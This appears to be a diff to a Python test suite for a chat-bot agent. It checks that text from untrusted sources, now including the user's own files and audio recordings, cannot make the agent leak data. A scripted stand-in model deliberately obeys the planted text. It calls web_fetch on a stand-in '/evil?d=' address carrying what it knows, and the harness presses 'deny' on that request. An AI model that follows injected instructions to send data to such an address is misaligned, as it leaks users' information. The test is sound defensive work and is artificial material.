@@ -10,7 +10,8 @@ from agent_core.clock import SystemClock
 from agent_core.context.compaction.summary import FACTS
 from agent_core.loop.limits import LoopLimits
 from agent_core.mcp.servers import McpServers
-from agent_core.messages import JsonObject, ToolResultMessage
+from agent_core.messages import JsonObject, ToolResultMessage, UserMessage
+from agent_core.models.audio import AudioServer
 from agent_core.models.llm import LlmRequest
 from agent_core.models.scripted import Turn, calls
 from agent_core.sandbox.process import ProcessSandbox
@@ -22,7 +23,7 @@ from agent_core.tools.shell import run_command_tool
 from agent_core.tools.web.fetch import Fetcher
 from agent_core.tools.web.tools import web_fetch_tool
 from channels.attachments import Attachment
-from channels.base import Addressed, ChatKey, MessageReceived, Sender
+from channels.base import Addressed, ChatKey, MessageReceived, OutboundMessage, Sender
 from channels.memory import NO_PACE, MemoryChannel, Reply
 from gateway.permissions.policy import Policy
 from gateway.permissions.workspaces import workspace_of
@@ -31,6 +32,7 @@ from gateway.store.job import Report
 from tests.agent_core.mcp.serving import ENVIRON, emulated
 from tests.agent_core.sandbox.running import launcher_called
 from tests.agent_core.web.site import Site
+from tests.emulators.audio import KEY, AudioEmulator, recording
 from tests.gateway.bot import Bot, BotOptions
 from tests.gateway.jobs.kit import a_job
 from tests.gateway.sourced import files_in
@@ -38,7 +40,11 @@ from tests.gateway.tasking import rows
 from tests.process import until
 
 MARK = "kestrel4471"
-"""Word that occurs only in the untrusted text."""
+"""Word that occurs only in the untrusted text, which also orders to open an address that nobody gave."""
+WEAK = "heron9920"
+"""The same in files that the user sends."""
+EVIL = "/evil?d="
+"""The address, with what the model knows."""
 PLAIN = "otter"
 WITHIN = 60.0
 LONG = 600
@@ -46,11 +52,14 @@ LONG = 600
 TASK, REPORT = "Do this job:", "Report on this chat."
 CHANGES = ("pause", "resume")
 OURS = ("/approve ", "/cron confirm ")
+REFUSAL = "/deny "
 
 Wanted = tuple[str, JsonObject | str]
 """A tool call."""
 
-ENTRIES = ("page", "sent file", "passed on", "quoted", "server", "odd file")
+OWN_FILES = ("own file", "own recording")
+"""What the user sends, which may hold the words of others."""
+ENTRIES = (*OWN_FILES, "page", "sent file", "passed on", "quoted", "server", "odd file")
 WAYS = (
     "write",
     "write a long file",
@@ -68,12 +77,20 @@ WAYS = (
     "plan",
     "jobs",
     "report",
+    "search the chat",
+    "aside",
+    "look up",
+    "facts",
     "quote",
+    "thread",
     "forward",
     "compact",
     "undo",
     "restart",
 )
+
+
+TALK = frozenset({"quote", "thread", "aside", "look up", "facts"})
 
 
 @dataclass(frozen=True)
@@ -86,17 +103,25 @@ class Way:
 
 
 class Copyist:
-    """Scripted turn that makes the planned calls, with untrusted text once it has read some."""
+    """Scripted turn that makes the planned calls, with untrusted text once it has read some.
 
-    def __init__(self) -> None:
+    In each run it obeys that text first, and opens the address that is composed of what it knows.
+    """
+
+    def __init__(self, site: Site) -> None:
         self.plan: list[Callable[[str], Turn]] = []
+        self.obeyed = 0
+        self._site = site
 
     def __call__(self, request: LlmRequest) -> Turn:
         told = "\n".join([request.system, *(message.model_dump_json() for message in request.messages)])
-        word = MARK if MARK in told else PLAIN
+        word = "-".join(mark for mark in (MARK, WEAK) if mark in told) or PLAIN
         first = request.messages[0].model_dump_json() if request.messages else ""
         if not request.tools:  # a summary
             return f"## Goal\nGo on.\n\n## Progress\nIt is about {word}.\n\n{FACTS}\n- {word} is a bird"
+        if word != PLAIN and not self._has_obeyed(request):
+            self.obeyed += 1
+            return calls(("web_fetch", {"url": f"{self._site.url}{EVIL}{word}"}))
         if TASK in first or REPORT in first:
             looked = any(isinstance(message, ToolResultMessage) for message in request.messages)
             own: list[Wanted] = [("read_history", {})] if REPORT in first else []
@@ -104,6 +129,10 @@ class Copyist:
         if self.plan:
             return self.plan.pop(0)(word)
         return f"It is about {word}."
+
+    def _has_obeyed(self, request: LlmRequest) -> bool:
+        asked = max((at for at, each in enumerate(request.messages) if isinstance(each, UserMessage)), default=0)
+        return any(EVIL in each.model_dump_json() for each in request.messages[asked:])
 
 
 class Scene:
@@ -133,8 +162,8 @@ class Scene:
                     await self.says(words, group)
             case "restart":
                 await self.bot.restart()
-            case "quote":
-                await self._quotes(chat, group)
+            case what if what in TALK:
+                await self._talks(what, chat, group)
             case "forward":  # a forwarded message is not recognised as the bot's own
                 if group is None and (said := self._said(chat)):
                     await self._brings(shared=f"Forwarded from Ada:\n{said[1]}")
@@ -147,6 +176,21 @@ class Scene:
             case what:
                 self.model.plan = [*self._calls(what, number, chat)]
                 await self.says("Please go on.", group)
+
+    async def _talks(self, what: str, chat: ChatKey, group: str | None) -> None:
+        """Have Parley say again what it has said, or say something about it."""
+        said = self._said(chat)
+        words = {
+            "aside": "/btw What is it about?",
+            "look up": "/search about",
+            "facts": "/memory",
+        }
+        if what == "quote":
+            await self._quotes(chat, group)
+        elif what == "thread":
+            await self.says("What is that?", group, thread=said[0] if said else None)
+        else:
+            await self.says(words[what], group)
 
     def _calls(self, way: str, number: int, chat: ChatKey) -> Iterator[Callable[[str], Turn]]:
         """Yield the calls of a way. Files are chosen by number, as the model cannot know other names."""
@@ -166,6 +210,7 @@ class Scene:
             "program": lambda _: ("run_command", {"argv": ["sh", "-c", f"cat * */* > all{number % 2}.txt; ls -R"]}),
             "remember": lambda word: ("remember", {"fact": f"{word} is number {number}"}),
             "recall": lambda _: ("recall", {}),
+            "search the chat": lambda _: ("search_chat", {"words": "about"}),
             "task": lambda word: ("task", {"prompt": f"{TASK} {word}"}),
             "background task": lambda word: ("task", {"prompt": f"{TASK} {word}", "background": True}),
             "plan": lambda word: ("schedule", {"kind": "reminder", "what": f"see {word}", "when": "2030-05-05 09:00"}),
@@ -205,12 +250,12 @@ class Scene:
                 await self.channel.hears("What is that?", reply=Reply(quoted=f"Eve: {MARK}"))
                 self.entered = union(self.entered, ["person:Eve"])
             case "odd file":
-                workspace = workspace_of(self.bot.home, self.channel.chat())
-                workspace.mkdir(parents=True, exist_ok=True)
-                (workspace / "odd.txt").write_text(f"otter {MARK}")
+                self._lay("odd.txt", f"otter {MARK}")
                 self.model.plan = [lambda _: calls(("read_file", {"path": "odd.txt"}))]
                 await self.says("Read it.", None)
                 self.entered = union(self.entered, ["file:odd.txt"])
+            case "own file" | "own recording":
+                await self._sends_own(how)
             case "sent file":
                 file = self.channel._keep("sent.txt", f"otter {MARK}".encode())  # noqa: SLF001 - as `hears` does it
                 await self._brings(attachments=(file.model_copy(update={"by": "Eve"}),))
@@ -219,6 +264,19 @@ class Scene:
                 await self._brings(shared=f"Forwarded from Eve:\n{MARK}")
                 self.entered = union(self.entered, ["person:Eve"])
         await self._settled(None)
+
+    def _lay(self, name: str, text: str) -> None:
+        """Write a file into the workspace behind Parley's back."""
+        workspace = workspace_of(self.bot.home, self.channel.chat())
+        workspace.mkdir(parents=True, exist_ok=True)
+        (workspace / name).write_text(text)
+
+    async def _sends_own(self, how: str) -> None:
+        if how == "own recording":
+            await self.channel.hears("Listen.", files={"podcast.mp3": recording(WEAK)})
+            return
+        self.model.plan = [lambda _: calls(("read_file", {"path": "own.txt"}))]
+        await self.channel.hears("Read it.", files={"own.txt": f"otter {WEAK}".encode()})
 
     async def _brings(self, *, shared: str = "", attachments: tuple[Attachment, ...] = ()) -> None:
         """Deliver a message with text by others."""
@@ -247,27 +305,37 @@ class Scene:
     def _said(self, chat: ChatKey) -> tuple[str, str] | None:
         """Return the last answer in a chat, with its id."""
         said = [(posted, message) for posted, message in self.channel.posts if posted.chat == chat]
-        found = [(posted.message_id, message.markdown) for posted, message in said if "It " in message.markdown]
+        found = [(posted.message_id, message.markdown) for posted, message in said if _is_marked(message.markdown)]
         return found[-1] if found else None
 
-    async def says(self, text: str, group: str | None) -> None:
-        await self.channel.hears(text, group=group)
-        await self._settled(group)
+    async def says(self, text: str, group: str | None, thread: str | None = None) -> None:
+        await self.channel.hears(text, group=group, thread=thread)
+        await self._settled(group, thread)
 
-    async def _settled(self, group: str | None) -> None:
-        """Wait until everything is done, allowing every question."""
+    async def _settled(self, group: str | None, thread: str | None = None) -> None:
+        """Wait until everything is done, allowing every question but that for the address that nobody gave."""
         async with asyncio.timeout(WITHIN):
             settled = asyncio.create_task(self.bot.app.settled())
             while not settled.done():
                 for command in [each for each in self._offered() if each not in self._answered]:
                     self._answered.add(command)
-                    await self.channel.hears(command, group=group)
+                    await self.channel.hears(command, group=group, thread=thread)
                 await asyncio.wait([settled], timeout=0.01)
             await settled
 
     def _offered(self) -> list[str]:
-        actions = [button.action for _, said in self.channel.posts for row in said.buttons for button in row]
-        return [action for action in actions if action.startswith(OURS) and not action.endswith("always")]
+        return [action for _, said in self.channel.posts for action in _answers(said)]
+
+
+def _answers(said: OutboundMessage) -> list[str]:
+    """Return the action of the button that the user presses below a message, if there is one."""
+    actions = [button.action for row in said.buttons for button in row if not button.action.endswith("always")]
+    is_evil = EVIL in said.markdown
+    return [action for action in actions if action.startswith(REFUSAL if is_evil else OURS)]
+
+
+def _is_marked(text: str) -> bool:
+    return "It " in text or MARK in text or WEAK in text
 
 
 @asynccontextmanager
@@ -275,10 +343,11 @@ async def opened(home: Path, launcher: str, *, server: bool) -> AsyncIterator[Sc
     async with AsyncExitStack() as life:
         sandbox = ProcessSandbox(await launcher_called(launcher, home / "scratch"), SystemClock())
         site = await life.enter_async_context(Site({"/page": f"<title>News</title><p>Falcons: {MARK}.</p>"}))
+        audio = await life.enter_async_context(AudioEmulator())
         servers = McpServers({"lab": emulated()} if server else {}, {**ENVIRON, "LANG": MARK})
         servers.begin()
         life.push_async_callback(servers.close)
-        model, channel = Copyist(), MemoryChannel(limits=NO_PACE)
+        model, channel = Copyist(site), MemoryChannel(limits=NO_PACE)
         options = BotOptions(
             tools=(
                 *builtin_tools(SystemClock()),
@@ -289,6 +358,7 @@ async def opened(home: Path, launcher: str, *, server: bool) -> AsyncIterator[Sc
             limits=LoopLimits(result_chars=LONG),
             others=servers.tools,
             policy=Policy(shut_in=lambda _: True),
+            transcription=AudioServer(audio.base_url, "whisper-1", KEY, 0.0),
             skills=SkillLibrary([(ROOT / "skills", Origin.SHIPPED)]),
         )
         bot = Bot(home, [model] * 500, options)
